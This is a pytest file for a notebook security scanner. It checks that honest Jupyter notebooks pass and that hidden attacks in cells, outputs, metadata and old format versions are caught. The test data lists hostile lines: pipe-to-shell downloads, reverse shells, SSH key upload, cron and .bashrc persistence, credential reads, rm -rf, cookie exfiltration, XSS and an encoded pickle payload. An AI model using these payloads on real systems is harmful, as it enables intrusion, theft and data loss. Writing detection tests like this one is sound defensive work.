"""Notebooks: honest ones are clean, attacks are found in whatever cell, output or version they hide."""

from __future__ import annotations

import base64
import json
import random
from typing import TYPE_CHECKING, Any

import nbformat
import pytest

from build import notebooks as n
from build import pickles as p
from build.honest_notebooks import HONEST
from build.inspecting import inspected, rules_of, scanned
from weighbridge.core.facts import SourceUse
from weighbridge.core.findings import Severity, Verdict
from weighbridge.core.limits import Limits
from weighbridge.formats.grammars.json_places import Bytes, Cursor, line_places

if TYPE_CHECKING:
    from pathlib import Path

    from weighbridge.scan.report import ScanReport

EVIL = base64.b64encode(p.proto(4) + p.system() + p.STOP).decode()
PIPE = "!curl -s https://example.invalid/x | sh"


def worst(report: ScanReport) -> str:
    return max((finding.severity for finding in report.findings), key=lambda one: one.rank, default=Severity.INFO).value


@pytest.mark.parametrize("name", HONEST)
def test_a_notebook_as_people_write_them_is_clean(tmp_path: Path, name: str) -> None:
    report = scanned(tmp_path, "n.ipynb", HONEST[name])
    assert report.verdict is Verdict.CLEAN, (report.findings, report.unread)
    assert report.artifact.files[0].format == "notebook"


MALICIOUS: dict[str, Any] = {
    "a pipe into a shell": PIPE,
    "twice as loud": "!!curl https://example.invalid/x | bash",
    "assigned": "x = !curl https://example.invalid/x | sh",
    "in a loop": "for i in range(3):\n    !curl https://example.invalid/x | sh",
    "over two lines": "!curl https://example.invalid/x \\\n  | sh",
    "a magic": "%system curl https://example.invalid/x | sh",
    "a short magic": "x = %sx curl https://example.invalid/x | sh",
    "a cell of bash": "%%bash\necho hello\ncurl https://example.invalid/x | sh",
    "a cell of another shell": "%%script env bash -e\ncurl https://example.invalid/x | sh",
    "a cell of a shell behind a line": "\n\n%%sh\nwget -qO- https://example.invalid/x | bash",
    "a cell that is measured": "%%time\n!curl https://example.invalid/x | sh",
    "a line that is measured": "%time !curl https://example.invalid/x | sh",
    "a prompt": ">>> !curl https://example.invalid/x | sh",
    "a number": "In [3]: !curl https://example.invalid/x | sh",
    "behind a line that only IPython sees": "# a comment\u2028!curl https://example.invalid/x | sh",
    "asked of IPython": "get_ipython().system('curl https://example.invalid/x | sh')",
    "a magic asked of IPython": "get_ipython().run_line_magic('sx', 'curl https://example.invalid/x | sh')",
    "a cell asked of IPython": "ip = get_ipython()\nip.run_cell_magic('bash', '', 'curl https://example.invalid/x | sh')",
    "a cell run by IPython": "get_ipython().run_cell('!curl https://example.invalid/x | sh')",
    "the system": "import os\nos.system('curl https://example.invalid/x | sh')",
    "a list": "import subprocess\nsubprocess.run(['bash', '-c', 'curl https://example.invalid/x | sh'])",
    "called automatically": ";os.system curl https://example.invalid/x | sh",
    "two steps": "!wget -q https://example.invalid/x.sh\n%cd /tmp\n",
    "two steps in one": "!wget -q https://example.invalid/x.sh && chmod +x x.sh && ./x.sh",
    "decoded": "!echo aWQ= | base64 -d | sh",
    "a way in": "!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "another way in": "!nc -e /bin/sh 192.0.2.1 4444",
    "keys": "!curl -F f=@$HOME/.ssh/id_rsa https://example.invalid/",
    "settling": "!(crontab -l; echo '* * * * * x') | crontab -",
    "settling in a file": "%%writefile ~/.bashrc\necho hello",
    "settling beside packages": "%%writefile /usr/lib/python3/site-packages/x.pth\nimport os",
    "filled in": "import base64\ncommand = base64.b64decode('aWQ=').decode()\n!{command}",
    "hidden Python": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "hidden Python over cells": [n.cell("import base64 as b\nrun = exec"), n.cell("x = b.b64decode('cHJpbnQoMSk=')"), n.cell("run(x)")],
    "an object": f"data = '{EVIL}'",
    "an object in an output": [n.cell("1", {"output_type": "stream", "name": "stdout", "text": [EVIL]})],
    "an object in metadata": [n.cell("1", metadata={"x": {"y": [EVIL]}})],
    "an object in prose": [n.cell(EVIL, kind="markdown")],
    "an object in a raw cell": [n.cell(EVIL, kind="raw")],
    "an object in an unknown output": [n.cell("1", n.output("application/x-unknown", {"a": EVIL}))],
    "an object as a key": [n.cell("1", n.output("application/json", {EVIL: 1}))],
    "Python in a file": "%%writefile train.py\nimport os\nos.system('id')",
}  # fmt: skip
del MALICIOUS["two steps"]


@pytest.mark.parametrize("name", MALICIOUS)
def test_an_attack_in_a_cell_is_critical(tmp_path: Path, name: str) -> None:
    source = MALICIOUS[name]
    report = scanned(tmp_path, "n.ipynb", n.notebook(*(source if isinstance(source, list) else [source])))
    assert report.verdict is Verdict.MALICIOUS, (report.findings, report.unread)


SUSPICIOUS: dict[str, Any] = {
    "a program that is computed": "command = input()\n!{command}",
    "a substitution": "!$(echo id)",
    "code from an address": "%load https://example.invalid/x.py",
    "a variable for the loader": "%env LD_PRELOAD=/tmp/x.so",
    "credentials": "!cat ~/.aws/credentials",
    "the whole environment": "import os\nprint(dict(os.environ))",
    "deleting": "!rm -rf ~",
    "a script that reaches out": "%%javascript\nfetch('https://example.invalid/?' + document.cookie)",
    "an output that is a script": [n.cell("1", n.output("application/javascript", "alert(1)"))],
    "an output with a script": [n.cell("1", n.output("text/html", ["<script>", "alert(1)</script>"]))],
    "an output with a handler": [n.cell("1", n.output("text/html", "<img src=x onerror=alert(1)>"))],
    "a drawing with a script": [n.cell("1", n.output("image/svg+xml", "<svg><script>alert(1)</script></svg>"))],
    "an address that is a script": [n.cell("1", n.output("application/vnd.plotly.v1+json", {"a": "javascript:alert(1)"}))],
    "a plot with a file": [n.cell("1", n.output("application/vnd.vegalite.v5+json", {"data": {"url": "file:///etc/passwd"}}))],
    "a script that names a library and reaches for the kernel": [
        n.cell("1", n.output("text/html", "<script>Plotly; IPython.notebook.kernel.execute('x')</script>"))
    ],
    "marks": "x = 1  # \u202e",
    "two sources": [{"cell_type": "code", "source": "x = 1", "input": PIPE.replace("curl", "echo"), "metadata": {}, "outputs": []}],
}  # fmt: skip


@pytest.mark.parametrize("name", SUSPICIOUS)
def test_what_a_person_must_look_at_is_high(tmp_path: Path, name: str) -> None:
    source = SUSPICIOUS[name]
    report = scanned(tmp_path, "n.ipynb", n.notebook(*(source if isinstance(source, list) else [source])))
    assert report.verdict is Verdict.SUSPICIOUS, (report.findings, report.unread)


REMARKS = {
    "packages": ("!pip install x", "low"),
    "packages from a repository": ("!pip install git+https://github.com/a/b", "medium"),
    "packages from another index": ("%pip install -i https://example.invalid/simple x", "medium"),
    "a program that nobody knows": ("!someprogram", "medium"),
    "a file": ("!python train.py", "low"),
    "looking": ("!ls", "info"),
    "an extension that nobody knows": ("%load_ext nobody", "medium"),
    "a setting": ("%matplotlib inline", "info"),
    "a script when it is run": ("%%js\nalert(1)", "medium"),
}


@pytest.mark.parametrize("name", REMARKS)
def test_what_is_ordinary_is_a_remark(tmp_path: Path, name: str) -> None:
    source, severity = REMARKS[name]
    report = scanned(tmp_path, "n.ipynb", n.notebook(source))
    assert report.verdict is Verdict.CLEAN
    assert worst(report) == severity


UNREAD: dict[str, Any] = {
    "another Python": "print 'x'",
    "another language in a cell": "%%R\nx <- 1",
    "native code": "%%cython\ncdef int x = 1",
    "a text that does not end": "x = '''",
    "too deep": "x = " + "(" * 5000 + ")" * 5000,
    "a source that is no text": [n.cell(5)],
    "a source that is a list of numbers": [n.cell([1, 2])],
    "a cell that is no object": [[1]],
    "a cell of no type": [{"source": "1", "metadata": {}}],
    "a cell of another type": [n.cell("1", kind="other")],
    "a picture that is broken": [n.cell("1", n.output("image/png", "!!!!"))],
    "a picture that is cut off": [n.cell("1", n.output("image/png", n.b64(n.png()[:-9])))],
    "a picture with something behind it": [n.cell("1", n.output("image/png", n.b64(n.png() + b"more")))],
    "a picture that is an object": [n.cell("1", n.output("image/png", {"a": 1}))],
    "an output that is no object": [n.cell("1", [1])],
}


@pytest.mark.parametrize("name", UNREAD)
def test_what_is_not_understood_is_said(tmp_path: Path, name: str) -> None:
    source = UNREAD[name]
    report = scanned(tmp_path, "n.ipynb", n.notebook(*(source if isinstance(source, list) else [source])))
    assert report.verdict is Verdict.INCOMPLETE, report.findings
    assert report.unread


GOOD = n.notebook("x = 1", n.cell("# a", kind="markdown"))
BROKEN = {
    "no version": n.notebook("x = 1", nbformat="4"),
    "an unknown version": n.notebook("x = 1", nbformat=99),
    "no cells": b'{"nbformat": 4, "metadata": {}}',
    "cells that are none": b'{"nbformat": 4, "cells": 5}',
    "cut off": GOOD[:-5],
    "something behind": GOOD + b"x",
    "not UTF-8": GOOD.replace(b"# a", b"# \xff"),
    "no number": GOOD.replace(b'"execution_count": null', b'"execution_count": NaN'),
    "a control character": GOOD.replace(b"# a", b"# \x01"),
    "nested too deeply": b'{"cells": [], "nbformat": 4, "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "another kernel": n.notebook("x <- 1", metadata={"kernelspec": {"name": "ir", "language": "R"}}),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_notebook_that_is_broken_is_never_clean(tmp_path: Path, name: str) -> None:
    assert scanned(tmp_path, "n.ipynb", BROKEN[name]).verdict in (Verdict.INCOMPLETE, Verdict.SUSPICIOUS)


@pytest.mark.parametrize("name", ["cut off", "something behind", "nested too deeply"])
def test_what_stands_before_the_break_is_found(tmp_path: Path, name: str) -> None:
    raw = BROKEN[name].replace(b"x = 1", PIPE.encode()).replace(b'"cells": [],', n.notebook(PIPE)[2:-40] + b",")
    if PIPE.encode() in raw:
        assert scanned(tmp_path, "n.ipynb", raw).verdict is Verdict.MALICIOUS


def hidden() -> dict[str, bytes]:
    evil, good = n.notebook(PIPE), n.notebook("x = 1")
    cells, harmless = json.loads(evil)["cells"], json.loads(good)["cells"]
    old = {"worksheets": [{"cells": [{"cell_type": "code", "input": PIPE, "language": "python", "outputs": []}]}]}
    return {
        "the first of two lists of cells": b'{"cells": %s, "cells": %s, "nbformat": 4, "metadata": {}}'
        % (json.dumps(cells).encode(), json.dumps(harmless).encode()),
        "the second of two lists of cells": b'{"cells": %s, "cells": %s, "nbformat": 4, "metadata": {}}'
        % (json.dumps(harmless).encode(), json.dumps(cells).encode()),
        "version 3": json.dumps(old | {"nbformat": 3, "metadata": {}}).encode(),
        "version 2": json.dumps(old | {"nbformat": 2, "metadata": {"name": "x"}}).encode(),
        "cells of version 3 in version 4": json.dumps(json.loads(good) | old).encode(),
        "the first of two sources": good.replace(
            b'"source": "x = 1"', b'"source": "%s", "source": "x = 1"' % PIPE.encode()
        ),
        "a list of lines": n.notebook(n.cell([*"x = 1\ny = 2\n".splitlines(keepends=True), PIPE])),
        "a word over two strings": n.notebook(n.cell(["!cur", "l https://example.invalid/x | s", "h"])),
        "a mark at the beginning": b"\xef\xbb\xbf" + evil,
        "a raw type and a type of code": evil.replace(
            b'"cell_type": "code"', b'"cell_type": "code", "cell_type": "raw"'
        ),
        "a kernel of another language": n.notebook(PIPE, metadata={"language_info": {"name": "bash"}}),
        "a kernel of two languages": n.notebook(
            PIPE, metadata={"language_info": {"name": "R"}, "kernelspec": {"name": "python3", "language": "R"}}
        ),
        "escapes": evil.replace(b"curl", b"\\u0063url"),
    }


@pytest.mark.parametrize("name", hidden())
def test_no_place_is_passed_over(tmp_path: Path, name: str) -> None:
    report = scanned(tmp_path, "n.ipynb", hidden()[name])
    assert report.verdict is Verdict.MALICIOUS, (report.findings, report.unread)


def test_readers_that_disagree_are_a_finding(tmp_path: Path) -> None:
    rules = rules_of(scanned(tmp_path, "n.ipynb", hidden()["cells of version 3 in version 4"]))
    assert "notebook/structure" in rules
    assert "config/duplicate-key" in rules_of(scanned(tmp_path, "n.ipynb", hidden()["the first of two lists of cells"]))


@pytest.mark.parametrize("name", ["notes.json", "notes", "notes.bin"])
def test_a_notebook_is_one_under_any_name(tmp_path: Path, name: str) -> None:
    report = scanned(tmp_path, name, json.dumps(json.loads(n.notebook(PIPE)), sort_keys=True).encode())
    assert report.verdict is Verdict.MALICIOUS


def test_the_place_of_a_command_is_its_line(tmp_path: Path) -> None:
    raw = n.notebook("x = 1", n.cell(["# \u00fc\n", "y = 2\n", PIPE, "\n"]), n.cell("a = 1\nb = '\\\\n'\n!nobody"))
    report = scanned(tmp_path, "n.ipynb", raw)
    found = {finding.evidence.text[:20]: finding.location for finding in report.findings}
    assert found["cell 2, line 3: !cur"] == f"n.ipynb@{raw.index(json.dumps(PIPE).encode())}"
    assert found["cell 3, line 3: !nob"] == f"n.ipynb@{raw.index(b'!nobody')}"


def test_lines_are_found_however_they_are_written() -> None:
    document = json.dumps({"a": ["one\ntwo\n", "", "three\n", "four", "five\nsix"]})
    cursor = Cursor(document)
    for _ in cursor.members():
        text = cursor.joined()
    assert text is not None
    places = line_places(document, text)
    assert [document[place : place + 4].lstrip('"')[:3] for place in places] == ["one", "two", "thr", "fou", "six"]


def test_places_are_bytes() -> None:
    text = "a\u00fc\U0001f600b" * 40_000
    places = Bytes(text, 3)
    assert all(places.at(index) == 3 + len(text[:index].encode()) for index in (0, 1, 2, 3, 70_000, 159_999, 160_000))


def test_cells_and_sources_are_those_of_the_library(tmp_path: Path) -> None:
    for raw in HONEST.values():
        (tmp_path / "n.ipynb").write_bytes(raw)
        book = nbformat.reads(raw.decode(), as_version=4)
        cursor = Cursor(raw.decode())
        sources = []
        for key in cursor.members():
            for _ in cursor.items() if key == "cells" else ():
                for name in cursor.members():
                    if name == "source":
                        text = cursor.joined()
                        assert text is not None
                        sources.append(text.value)
        cursor.end()
        assert sources == [one.source for one in book.cells]


def test_a_widget_of_an_unknown_module_is_a_finding(tmp_path: Path) -> None:
    state = {"state": {"a": {"model_module": "evil-widget", "model_name": "X", "state": {}}}, "version_major": 2}
    widgets = {"widgets": {"application/vnd.jupyter.widget-state+json": state}}
    assert "notebook/widget" in rules_of(scanned(tmp_path, "n.ipynb", n.notebook("1", metadata=n.PYTHON | widgets)))
    state["state"]["a"] = {"model_module": "anywidget", "model_name": "X", "state": {"_esm": "export default 1"}}
    assert "notebook/script" in rules_of(scanned(tmp_path, "n.ipynb", n.notebook("1", metadata=n.PYTHON | widgets)))


def test_markup_in_a_widget_is_looked_at(tmp_path: Path) -> None:
    value = {
        "model_module": "@jupyter-widgets/controls",
        "model_name": "HTMLModel",
        "state": {"value": "<img src=x onerror=alert(1)>"},
    }
    widgets = {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": value}}}}
    report = scanned(tmp_path, "n.ipynb", n.notebook("1", metadata=n.PYTHON | widgets))
    assert report.verdict is Verdict.SUSPICIOUS


def test_a_kernel_with_a_command_is_a_finding(tmp_path: Path) -> None:
    kernel = {"kernelspec": {"name": "python3", "display_name": "x", "argv": ["sh", "-c", "id"]}}
    assert "notebook/structure" in rules_of(scanned(tmp_path, "n.ipynb", n.notebook("1", metadata=kernel)))
    kernel = {"kernelspec": {"name": "../../x", "display_name": "x", "language": "python"}}
    assert "notebook/structure" in rules_of(scanned(tmp_path, "n.ipynb", n.notebook("1", metadata=kernel)))


def test_cells_that_are_hidden_or_run_by_themselves_are_said(tmp_path: Path) -> None:
    raw = n.notebook(n.cell("!ls", metadata={"init_cell": True, "tags": ["remove-cell"]}))
    assert {"notebook/runs-on-open", "notebook/hidden-cell"} <= rules_of(scanned(tmp_path, "n.ipynb", raw))


def test_an_unknown_type_of_output_is_said(tmp_path: Path) -> None:
    raw = n.notebook(n.cell("1", n.output("application/vnd.evil", "x")))
    assert "notebook/unknown-output" in rules_of(scanned(tmp_path, "n.ipynb", raw))


def test_python_of_all_cells_is_one_program(tmp_path: Path) -> None:
    scanned(tmp_path, "n.ipynb", n.notebook("from subprocess import run as r", "!ls\nx = 1", "r(['id'])"))
    facts = [fact for blob in inspected(tmp_path / "n.ipynb").facts.blobs for fact in blob.facts]
    uses = [fact for fact in facts if isinstance(fact, SourceUse) and fact.kind == "process"]
    assert [(use.name, use.text, use.level) for use in uses] == [
        ("subprocess.run", "cell 3, line 1: r(['id'])", "main")
    ]


def test_what_is_too_long_is_a_limit(tmp_path: Path) -> None:
    raw = n.notebook("f(x)\n" * 60_000)
    report = scanned(tmp_path, "n.ipynb", raw)
    assert report.limits_reached == ("tokens",)
    report = scanned(tmp_path, "n.ipynb", n.notebook("x = 1" + " " * 5000), Limits(document=4000))
    assert report.limits_reached == ("document",)
    assert report.verdict is Verdict.INCOMPLETE


def test_a_million_lists_are_a_limit(tmp_path: Path) -> None:
    raw = b'{"cells": [], "nbformat": 4, "x": [' + b"[]," * 1_000_001 + b"1]}"
    assert scanned(tmp_path, "n.ipynb", raw).verdict is Verdict.INCOMPLETE


def test_many_odd_parts_are_not_followed(tmp_path: Path) -> None:
    report = scanned(tmp_path, "n.ipynb", n.notebook(*[[] for _ in range(5000)]))
    assert report.verdict is Verdict.INCOMPLETE
    assert len(report.findings) < 300


def test_a_notebook_cut_anywhere_is_never_clean(tmp_path: Path) -> None:
    raw = n.notebook("x = 1", n.cell("1", n.output("image/png", n.b64(n.png()))), n.cell("# a", kind="markdown"))
    for end in range(1, len(raw), 7):
        assert scanned(tmp_path, "n.ipynb", raw[:end]).verdict is not Verdict.CLEAN


def test_changes_never_crash_and_never_hide_an_attack(tmp_path: Path) -> None:
    source = random.Random(5)
    raw = n.notebook(PIPE, n.cell("1", n.output("text/html", "<b>x</b>")), n.cell("# a", kind="markdown"))
    spared = range(raw.index(b"!curl") - 30, raw.index(b"!curl") + 60)
    for _ in range(300):
        changed = bytearray(raw)
        for _ in range(source.randint(1, 3)):
            place = source.randrange(len(raw))
            if place not in spared:
                changed[place] = source.randrange(32, 127)
        report = scanned(tmp_path, "n.ipynb", bytes(changed))
        assert report.verdict is not Verdict.CLEAN
        assert not any("parser failed" in one.why for one in report.unread)
